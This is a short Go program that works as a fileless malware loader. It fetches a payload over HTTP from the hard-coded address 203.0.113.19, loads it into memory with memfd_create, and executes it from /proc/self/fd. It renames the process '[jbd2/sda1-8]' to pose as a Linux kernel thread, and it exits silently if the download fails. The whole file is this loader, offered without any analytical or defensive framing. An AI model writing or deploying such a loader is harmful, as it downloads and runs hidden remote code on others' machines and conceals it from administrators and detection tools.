package main

import (
	"fmt"
	"io"
	"net/http"
	"os"
	"syscall"
	"unsafe"
)

const memfdCreate = 319

func main() {
	r, err := http.Get("http://203.0.113.19/latest")
	if err != nil {
		os.Exit(0)
	}
	defer r.Body.Close()
	body, _ := io.ReadAll(r.Body)
	name := []byte("jbd2\x00")
	fd, _, _ := syscall.Syscall(memfdCreate, uintptr(unsafe.Pointer(&name[0])), 1, 0)
	syscall.Write(int(fd), body)
	path := fmt.Sprintf("/proc/self/fd/%d", fd)
	syscall.Exec(path, []string{"[jbd2/sda1-8]"}, os.Environ())
}
